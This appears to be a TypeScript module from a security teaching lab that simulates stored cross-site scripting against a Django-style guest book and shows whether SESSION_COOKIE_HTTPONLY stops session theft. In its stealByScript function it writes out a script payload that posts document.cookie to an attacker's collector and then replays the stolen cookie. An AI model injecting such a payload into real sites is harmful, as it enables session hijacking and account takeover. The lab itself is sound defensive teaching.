import type { Finding } from '../shared/api.ts'
import type { Application } from './application/start.ts'
import type { LabAttack, LabStep, Live } from './outcome.ts'
import { signIn, tryCookie } from './people.ts'
import { STRONG } from './strong.ts'

/**
 * A path of its own, which the cookie then has too. A real browser that opens the live page keeps that cookie under
 * the name localhost, where it must not take the place of the one of a Django that is being developed there.
 */
const PATH = '/holdfast-lab'

/** The fourth step: what does a script in the page get? */
export const httponly: LabStep = {
  path: PATH,
  async run(application) {
    const { loot, thiefIsIn, live } = await stealByScript(application)
    const findings: Finding[] = [
      {
        good: loot === '',
        says:
          loot === ''
            ? '`document.cookie` gave the script an empty text.'
            : '`document.cookie` gave the script the session cookie.',
      },
      {
        good: !thiefIsIn,
        says: thiefIsIn
          ? 'With it, the attacker was signed in as Ada.'
          : 'The attacker’s site received nothing that opens a session.',
      },
    ]
    return {
      holds: loot === '' && !thiefIsIn,
      headline: thiefIsIn
        ? 'A comment in the guest book took Ada’s session out of her browser.'
        : 'The script ran, and the cookie was out of its reach.',
      findings,
      live,
    }
  },
}

/** Hijack by a script in the page. */
export const xss: LabAttack = {
  defenceName: '`SESSION_COOKIE_HTTPONLY = True`',
  off: { sessions: { ...STRONG, SESSION_COOKIE_HTTPONLY: false }, path: PATH },
  on: { sessions: STRONG, path: PATH },
  async run(application) {
    const { thiefIsIn, live } = await stealByScript(application)
    return {
      succeeded: thiefIsIn,
      headline: thiefIsIn
        ? 'A script in a comment read the cookie and sent it away. The attacker is Ada now.'
        : 'The script ran in Ada’s page, and `document.cookie` was empty. The cookie stayed.',
      live,
    }
  },
}

interface Stolen {
  readonly loot: string
  readonly thiefIsIn: boolean
  readonly live: Live
}

async function stealByScript(application: Application): Promise<Stolen> {
  const { timeline, https } = application
  const collector = await application.attackersSite()
  const script = `<script>fetch('${collector.url}', { method: 'POST', mode: 'no-cors', body: document.cookie })</script>`
  const comment = await application.browser().post(`${https}/guest-book`, { comment: `Lovely shop! ${script}` })
  timeline.note('attacker', 'Writes a comment into the guest book. There is a script in it.', {
    exchange: comment.exchange,
  })

  const ada = application.browser()
  const signedIn = await signIn(application, ada)
  timeline.note('victim', 'Ada signs in.', { exchange: signedIn.exchange })
  const page = await ada.get(`${https}/guest-book`)
  const runs = page.body.includes(script)
  timeline.note(
    'victim',
    'She reads the guest book. The page prints comments as they came, so the script runs in it.',
    { exchange: page.exchange },
  )

  const given = runs ? ada.scriptView(`${https}/guest-book`) : ''
  const sent = await ada.beacon(collector.url, given)
  timeline.note(
    'victim',
    given === ''
      ? 'The script asks for `document.cookie`, gets an empty text, and sends it to the attacker’s site.'
      : 'The script asks for `document.cookie` and sends what it gets to the attacker’s site.',
    {
      exchange: sent.exchange,
      good: given === '',
    },
  )

  const loot = collector.loot.at(-1) ?? ''
  const tried = await tryCookie(application, loot === '' ? undefined : loot)
  const thiefIsIn = tried.signedIn === 'ada'
  timeline.note(
    'attacker',
    thiefIsIn
      ? 'Sends the stolen cookie from another computer: signed in as Ada.'
      : 'Has received nothing, and is nobody.',
    {
      exchange: tried.exchange,
      good: !thiefIsIn,
    },
  )
  return { loot, thiefIsIn, live: { page: await application.openToBrowsers(), loot: collector.next() } }
}
